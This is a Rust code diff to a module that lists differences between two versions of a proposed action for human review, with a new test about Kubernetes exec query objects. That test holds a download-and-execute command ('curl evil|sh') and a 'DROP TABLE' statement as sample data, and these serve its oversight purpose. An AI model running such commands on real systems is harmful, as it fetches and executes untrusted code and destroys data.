@@ -249,7 +249,7 @@ pub const STATEMENT_KEYS: [&str; 3] = ["sql", "statement", "query"];
 /// estimates (as a factor), lineage, parameters, who it is for,
 /// justification, then the statement's size of change (its diff is shown
 /// apart). Empty when nothing a reviewer reads differs.
-pub fn changes(prev: &Action, cur: &Action) -> Vec<String> {
+pub fn changes<'a>(prev: &'a Action, cur: &'a Action) -> Vec<String> {
     let mut out = Vec::new();
     if prev.target != cur.target {
         out.push(format!(
@@ -338,12 +338,17 @@ pub fn changes(prev: &Action, cur: &Action) -> Vec<String> {
             out.push(format!("lineage {label} removed: {}", removed.join(", ")));
         }
     }
+    // A statement key is left to the statement comparison (below) only
+    // while it holds a string on both sides (or none); anything else under
+    // it — an HTTP query object, a Kubernetes exec's command list — is a
+    // parameter like any other.
+    let statement_key =
+        |k: &str| STATEMENT_KEYS.contains(&k) && [prev, cur].iter().all(|a| holds_statement(a, k));
     let mut pkeys: Vec<&String> = prev.params.keys().chain(cur.params.keys()).collect();
     pkeys.sort();
     pkeys.dedup();
     for k in pkeys {
-        if STATEMENT_KEYS.contains(&k.as_str())
-            || ["destination", "bucket", "url", "host", "to"].contains(&k.as_str())
+        if statement_key(k) || ["destination", "bucket", "url", "host", "to"].contains(&k.as_str())
         {
             continue;
         }
@@ -387,10 +392,13 @@ pub fn changes(prev: &Action, cur: &Action) -> Vec<String> {
             quote(cur.justification.as_deref().unwrap_or(""))
         ));
     }
-    let (a, b) = (statement_of(prev), statement_of(cur));
-    if a != b {
-        let (a, b) = (a.unwrap_or(""), b.unwrap_or(""));
-        let d = similar::TextDiff::from_lines(a, b);
+    for k in STATEMENT_KEYS.into_iter().filter(|k| statement_key(k)) {
+        let text = |a: &'a Action| a.params.get(k).and_then(Value::as_str);
+        let (a, b) = (text(prev), text(cur));
+        if a == b {
+            continue;
+        }
+        let d = similar::TextDiff::from_lines(a.unwrap_or(""), b.unwrap_or(""));
         let (mut ins, mut del) = (0, 0);
         for c in d.iter_all_changes() {
             match c.tag() {
@@ -399,12 +407,23 @@ pub fn changes(prev: &Action, cur: &Action) -> Vec<String> {
                 similar::ChangeTag::Equal => {}
             }
         }
+        let which = if k == "statement" {
+            String::new()
+        } else {
+            format!(" ({k})")
+        };
         out.push(format!(
-            "statement changed: {ins} line{} added, {del} removed",
+            "statement changed{which}: {ins} line{} added, {del} removed",
             if ins == 1 { "" } else { "s" }
         ));
     }
     out
+}
+
+/// Whether `a`'s parameter `k` is a statement or absent (not a query
+/// object or any other non-string).
+fn holds_statement(a: &Action, k: &str) -> bool {
+    a.params.get(k).is_none_or(Value::is_string)
 }
 
 fn round_factor(f: f64) -> String {
@@ -660,6 +679,43 @@ mod tests {
         assert_eq!(c[0], "estimated rows ÷2.1: 41,200 → 20,000");
         assert!(
             c[1].starts_with("parameter limit added: xxx") && c[1].ends_with("… (500 characters)")
+        );
+    }
+
+    #[test]
+    fn a_query_object_is_compared_like_any_parameter() {
+        // A Kubernetes exec: the command travels in the URL query, which
+        // the HTTP gateway puts in `params.query` as an object.
+        let exec = |command: Value| {
+            action(json!({"kind": "k8s", "operation": "exec",
+                "resource": "k8s://prod/namespaces/web/pods/api-0/exec",
+                "params": {"method": "POST", "path": "/api/v1/namespaces/web/pods/api-0/exec",
+                           "query": {"command": command, "stdout": "true"}}}))
+        };
+        let ls = exec(json!(["ls"]));
+        let sh = exec(json!(["sh", "-c", "curl evil|sh"]));
+        assert!(changes(&ls, &ls).is_empty());
+        assert_eq!(
+            changes(&ls, &sh),
+            [
+                r#"parameter query changed: {"command":["ls"],"stdout":"true"} → {"command":["sh","-c","curl evil|sh"],"stdout":"true"}"#
+            ]
+        );
+        // A string statement that becomes an object is a parameter that
+        // changed, shown whole; two strings are statements.
+        let q = |v: Value| {
+            action(
+                json!({"kind": "mcp", "operation": "call", "resource": "mcp://s/tools/q",
+            "params": {"query": v}}),
+            )
+        };
+        assert_eq!(
+            changes(&q(json!("SELECT 1")), &q(json!({"sql": "DROP TABLE t"}))),
+            [r#"parameter query changed: SELECT 1 → {"sql":"DROP TABLE t"}"#]
+        );
+        assert_eq!(
+            changes(&q(json!("SELECT 1")), &q(json!("SELECT 2"))),
+            ["statement changed (query): 1 line added, 1 removed"]
         );
     }
 
